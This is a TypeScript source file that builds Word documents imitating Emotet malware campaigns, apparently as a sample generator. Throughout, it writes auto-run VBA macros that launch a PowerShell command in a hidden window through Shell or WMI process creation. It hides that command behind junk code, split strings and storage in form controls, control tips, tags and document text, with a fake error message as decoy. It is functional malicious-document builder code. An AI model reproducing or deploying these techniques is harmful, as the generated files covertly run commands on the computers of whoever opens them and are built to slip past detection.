/** Documents after campaigns of Emotet. */

import { LABEL, OPTION, powershell, TEXT_BOX } from './common.ts'
import { disguiseOf } from './disguise.ts'
import { doc, docm } from './office.ts'

const SPLITTER = ['][', '%%', '##', '{{', '_-_', ')(', '^&'] as const

/** Functions out of order and arithmetic; then forms and WMI (2019); then the text of the document (2020). */
export function emotet(i: number): Buffer {
  const d = disguiseOf(100 + i)
  const command = powershell(i)
  const separator = `${SPLITTER[i % SPLITTER.length]}${d.name().slice(0, 2)}`
  const hidden = d.separated(command, separator)
  const [run, clean, form, box] = [d.name(), d.name(), d.name(), d.name()]
  const start = (expression: string): string =>
    `Sub ${run}()\nOn Error Resume Next\n${d.junk(4)}\n${expression}\n${d.junk(3)}\nEnd Sub`
  const wmi = (text: string): string => {
    const [service, setup, pid] = [d.name(), d.name(), d.name()]
    return `Set ${service} = GetObject(${d.joined('winmgmts:Win32_Process')})\nSet ${setup} = GetObject(${d.joined('winmgmts:Win32_ProcessStartup')})\n${setup}.ShowWindow = ${d.random(90)} - ${d.random(90)}\n${setup}.ShowWindow = 0\n${service}.Create ${text}, ${d.name()}, ${setup}, ${pid}`
  }
  const undo = `Function ${clean}(${box})\n${d.junk(2)}\n${clean} = Join(Split(${box}, "${separator}"), "")\nEnd Function`
  const stored = (value: string): string => `${clean}(${value})`
  const opens = { ThisDocument: `Private Sub Document_open()\n${run}\nEnd Sub` }
  const variants: (() => Buffer)[] = [
    () => {
      const { source, expression } = d.functions(`cmd /V:ON /C "${command}"`)
      return doc({ modules: { [d.name()]: `Sub AutoOpen()\n${d.junk()}\nShell ${expression}, 0\nEnd Sub\n${source}` } })
    },
    () => {
      const { source, expression } = d.functions(command, 20)
      return doc({
        modules: {
          [d.name()]: `Sub autoopen()\nOn Error Resume Next\n${d.junk(5)}\nVBA.Shell$ "" + ${expression}, vbHide\n${d.junk(2)}\nEnd Sub\n${source}`,
        },
      })
    },
    () => {
      const { source, expression } = d.functions(command)
      const key = d.name()
      return docm({
        modules: {
          [d.name()]: `Sub AutoOpen()\nSelect Case ${d.random(99)}\nCase ${d.random(99)}\n${d.junk()}\nEnd Select\n${key} = Array("", ${d.random(9)})\nInteraction.Shell ${expression}, ${key}(0) & 0\nEnd Sub\n${source}`,
        },
      })
    },
    () =>
      doc({
        modules: { ...opens, [d.name()]: `${start(wmi(stored(`${form}.${box}`)))}\n${undo}` },
        forms: { [form]: [{ name: box, type: TEXT_BOX, value: hidden }] },
      }),
    () =>
      doc({
        modules: { ...opens, [d.name()]: `${start(wmi(stored(`${form}.${box}.ControlTipText`)))}\n${undo}` },
        forms: { [form]: [{ name: box, type: LABEL, tip: hidden }] },
      }),
    () =>
      doc({
        modules: { ...opens, [d.name()]: `${start(wmi(stored(`${form}.${box}.GroupName`)))}\n${undo}` },
        forms: { [form]: [{ name: box, type: OPTION, group: hidden }] },
      }),
    () =>
      doc({
        modules: { ThisDocument: `${opens.ThisDocument}\n${start(wmi(stored(`ThisDocument.${box}.Text`)))}\n${undo}` },
        controls: [{ name: box, type: TEXT_BOX, value: hidden }],
      }),
    () =>
      docm({
        modules: { ThisDocument: `${opens.ThisDocument}\n${start(wmi(stored(`${box}.Value`)))}\n${undo}` },
        controls: [{ name: box, type: TEXT_BOX, value: hidden }],
      }),
    () =>
      doc({
        modules: { ...opens, [d.name()]: `${start(wmi(stored(`${form}.Tag`)))}\n${undo}` },
        forms: { [form]: [{ name: box, type: LABEL, caption: 'a' }] },
        frame: `   Tag  =  "${hidden.replaceAll('"', '')}"\r\n`,
      }),
    () =>
      doc({
        modules: {
          ...opens,
          [d.name()]: `${start(`${d.name()} = 1\n${wmi(stored('ActiveDocument.StoryRanges.Item(1)'))}`)}\n${undo}`,
        },
        paragraphs: [hidden],
      }),
    () =>
      docm({
        modules: { ...opens, [d.name()]: `${start(wmi(stored('ActiveDocument.Paragraphs(2).Range.Text')))}\n${undo}` },
        paragraphs: ['Operation did not complete successfully.', hidden],
      }),
    () => {
      const text = d.name()
      return doc({
        modules: {
          ...opens,
          [d.name()]: `${start(`Set ${text} = ActiveDocument.Content\n${d.junk()}\nSet ${d.name()} = CreateObject(${stored(`"w${separator}inmgmts:Win32_${separator}Process"`)})\n${wmi(`${clean}(Mid(${text}.Text, 1 + ${d.random(1)}))`)}`)}\n${undo}`,
        },
        paragraphs: [hidden],
      })
    },
  ]
  return (variants[i] as () => Buffer)()
}
